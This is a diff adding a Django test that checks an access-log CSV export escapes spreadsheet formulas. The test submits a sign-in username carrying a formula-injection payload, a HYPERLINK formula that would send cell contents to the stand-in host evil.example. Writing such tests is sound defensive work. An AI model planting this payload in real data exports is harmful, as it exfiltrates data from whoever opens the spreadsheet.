@@ -635,3 +635,14 @@ def test_access_log_is_shown_and_searched_in_utc(personas: Any) -> None:
     assert "2025-06-30 23:30:00" in found.content.decode()
     missed = client.get("/access-log/", {"date_from": "01/07/2025", "date_to": "01/07/2025"})
     assert "late-night view" not in missed.content.decode()
+
+
+def test_access_log_export_defuses_spreadsheet_formulas(personas: Any) -> None:
+    from django.test import Client
+
+    Client().post("/sign-in/", {"username": '=HYPERLINK("http://evil.example/?"&A1,"x")',
+                                "password": "wrong"})
+    body = client_for(personas.manager).get("/access-log/export.csv")
+    text = b"".join(body.streaming_content).decode()
+    assert "'=HYPERLINK" in text
+    assert ',=HYPERLINK' not in text
